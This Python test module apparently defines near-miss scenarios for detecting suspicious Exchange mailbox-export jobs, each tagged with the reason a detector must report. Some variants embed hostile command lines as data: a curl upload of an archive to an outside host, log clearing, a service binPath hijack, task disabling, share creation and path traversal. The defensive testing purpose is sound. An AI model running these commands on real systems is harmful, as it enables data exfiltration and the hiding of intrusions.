"""Near misses of scheduled jobs: exactly one condition broken, and the reason that must be named."""

from dataclasses import replace

from playbooks.mailbox_export.scenarios import commands
from playbooks.mailbox_export.scenarios.benign import (
    BACKUP_JOB,
    COMPLIANCE_JOB,
    MAINTENANCE_CLEANUP,
)
from playbooks.mailbox_export.scenarios.flaws import removal_by
from playbooks.scenarios import Hours, Place, Register, Runner, Source, Step
from playbooks.scenarios.flaws import below, near_miss, reworded, run_by, started_by, with_step
from playbooks.scenarios.programs import (
    CURL,
    DESKTOP,
    EVENT_UTILITY,
    NET,
    SCHTASKS,
    SERVICE_CONTROL,
    SEVEN_ZIP,
    STRAY_SVCHOST,
    Program,
)

_ROOT, _TARGET = r"{root}\{date}", r"\{mailbox}.pst'"


_SPARE = replace(COMPLIANCE_JOB, place=Place.SPARE_EXCHANGE)
_LATE = replace(COMPLIANCE_JOB, hours=Hours.OUTSIDE_WINDOW)
_EXPIRED = replace(BACKUP_JOB, register=Register.EXPIRED, hours=Hours.ANY, sources=(Source.DEFENDER,))
_LONGER = reworded(COMPLIANCE_JOB, "-BatchName {batch}", "-BatchName {batch}2")
_NAMED = replace(COMPLIANCE_JOB, sources=(Source.SYSMON, Source.DEFENDER))


def _nearby(program: Program, words: str) -> Step:
    """Another process on the host, six minutes after the start."""
    return Step(
        minute=6,
        command=f"{program.image} {words}",
        process=program,
        parent=DESKTOP,
        runner=Runner.EXCHANGE_ADMIN,
    )


# One binding of the job's row does not hold.
_BINDINGS = (
    near_miss(_SPARE, "wrong_host", "on a server that is not one of Hosts", "host_not_bound"),
    near_miss(
        run_by(COMPLIANCE_JOB, Runner.UNREGISTERED_SERVICE),
        "wrong_account",
        "under another service account",
        "service_account_unregistered",
    ),
    near_miss(_LATE, "outside_window", "in the afternoon", "outside_window"),
    near_miss(
        replace(
            COMPLIANCE_JOB,
            steps=(COMPLIANCE_JOB.steps[0], replace(COMPLIANCE_JOB.steps[1], minute=135)),
            seen_by=(),
        ),
        "removed_late",
        "the removal starts over an hour after the window's end",
        "removal_too_late",
    ),
    near_miss(
        replace(
            COMPLIANCE_JOB,
            steps=(COMPLIANCE_JOB.steps[0], replace(COMPLIANCE_JOB.steps[1], minute=27 * 60)),
            seen_by=(),
        ),
        "removed_next_day",
        "the removal comes 27 hours later",
        "span_too_long",
    ),
    near_miss(
        reworded(COMPLIANCE_JOB, _ROOT, r"{other_root}\{date}"),
        "other_root",
        "to another share",
        "path_outside_root",
    ),
    near_miss(
        reworded(COMPLIANCE_JOB, _ROOT, r"{root}2\{date}"),
        "sibling_root",
        "to a share whose name begins with the root's",
        "path_outside_root",
    ),
    near_miss(
        reworded(COMPLIANCE_JOB, "{mailbox}", "{stranger}"),
        "other_mailbox",
        "of another mailbox",
        "mailbox_outside_scope",
    ),
    near_miss(
        reworded(_LONGER, "-Name {batch}_", "-Name {batch}3_"),
        "longer_name",
        "name and batch go on with a digit",
        "job_not_selected",
    ),
    near_miss(_EXPIRED, "expired", "the row expired long ago", "row_expired"),
)

# Something about the processes is wrong, or something else runs on the host.
_SURROUNDINGS = (
    near_miss(below(_NAMED, DESKTOP), "from_desktop", "started from the desktop", "export_uncovered"),
    near_miss(
        below(_NAMED, STRAY_SVCHOST), "stray_svchost", "the svchost.exe lies in Temp", "export_uncovered"
    ),
    near_miss(
        started_by(below(_NAMED, DESKTOP), Runner.EXCHANGE_ADMIN),
        "started_by_person",
        "a person started it as the job's account",
        "identity_conflict",
    ),
    near_miss(
        with_step(COMPLIANCE_JOB, _nearby(SEVEN_ZIP, r"a C:\temp\x.7z C:\temp")),
        "archiver",
        "7-Zip runs",
        "archiver_used",
    ),
    near_miss(
        with_step(COMPLIANCE_JOB, _nearby(CURL, "-T x.7z https://files.example.net/")),
        "upload",
        "curl runs",
        "upload_tool",
    ),
    near_miss(
        with_step(COMPLIANCE_JOB, _nearby(SERVICE_CONTROL, r"config Spooler binPath= C:\temp\s.exe")),
        "service_changed",
        "a service is changed",
        "service_created",
    ),
    near_miss(
        with_step(COMPLIANCE_JOB, _nearby(SCHTASKS, r"/change /tn \Contoso\ComplianceExportJob /disable")),
        "task_changed",
        "a task is changed",
        "task_changed",
    ),
    near_miss(
        with_step(COMPLIANCE_JOB, _nearby(NET, r"share pst=C:\pst")),
        "share_created",
        "a share appears",
        "share_created",
    ),
    near_miss(
        with_step(COMPLIANCE_JOB, _nearby(EVENT_UTILITY, "cl Security")),
        "log_cleared",
        "a log is cleared",
        "log_cleared",
    ),
)

# The command says more, less or something else than the registered one.
_WORDS = (
    near_miss(
        removal_by(COMPLIANCE_JOB, script=commands.ANY_REMOVAL),
        "unscoped",
        "it removes all requests",
        "removal_unscoped",
    ),
    near_miss(
        reworded(COMPLIANCE_JOB, _TARGET, r"\{mailbox}.pst.aspx'"),
        "aspx",
        "the target ends in .aspx",
        "target_not_pst",
    ),
    near_miss(
        reworded(COMPLIANCE_JOB, _TARGET + '"', r"\{mailbox}"),
        "cut",
        "the log cut the command short",
        "command_cut",
    ),
    near_miss(
        reworded(COMPLIANCE_JOB, _ROOT, r"{root}\..\{date}"),
        "dots",
        "the path climbs",
        "target_untrusted_host",
    ),
    near_miss(
        reworded(COMPLIANCE_JOB, "-FilePath", "-CompletedRequestAgeLimit 0 -FilePath"),
        "no_record",
        "it keeps no record",
        "record_suppressed",
    ),
    near_miss(
        reworded(COMPLIANCE_JOB, "-BatchName {batch}", "-BatchName {batch_lookalike}"),
        "lookalike",
        "a letter of the batch is Cyrillic",
        "command_lookalike",
    ),
    near_miss(
        reworded(
            COMPLIANCE_JOB,
            "Connect-ExchangeServer -auto;",
            r"Connect-ExchangeServer -auto; & C:\Scripts\pre.ps1;",
        ),
        "script",
        "a script runs as well",
        "script_unregistered",
    ),
    near_miss(
        reworded(COMPLIANCE_JOB, "-Mailbox {mailbox} -Name", r"-Mailbox (Get-Content C:\scope.txt) -Name"),
        "from_file",
        "the mailbox comes from a file",
        "command_unparsed",
    ),
)

# Maintenance with one thing wrong.
_CLEAN_UPS = (
    near_miss(
        reworded(MAINTENANCE_CLEANUP, "{mailbox}", "{stranger}"),
        "uncovered_export",
        "of an export outside the job's scope",
        "mailbox_outside_scope",
    ),
    near_miss(
        removal_by(MAINTENANCE_CLEANUP, script=commands.ANY_REMOVAL),
        "any_status",
        "of any status",
        "removal_unscoped",
    ),
    near_miss(
        removal_by(MAINTENANCE_CLEANUP, runner=Runner.UNREGISTERED_SERVICE),
        "wrong_account",
        "under a service account",
        "service_account_unregistered",
    ),
    near_miss(
        replace(
            MAINTENANCE_CLEANUP,
            steps=(MAINTENANCE_CLEANUP.steps[0], replace(MAINTENANCE_CLEANUP.steps[1], minute=12)),
            start_minutes=(3, 8),
        ),
        "outside_window",
        "before its window opens",
        "outside_window",
    ),
    near_miss(
        removal_by(
            MAINTENANCE_CLEANUP,
            script=f"{commands.COMPLETED_REMOVAL}; Get-MoveRequest | Remove-MoveRequest -Confirm:$false",
        ),
        "move_requests",
        "move requests go too",
        "removal_unscoped",
    ),
)

JOB_MISSES = (*_BINDINGS, *_SURROUNDINGS, *_WORDS, *_CLEAN_UPS)
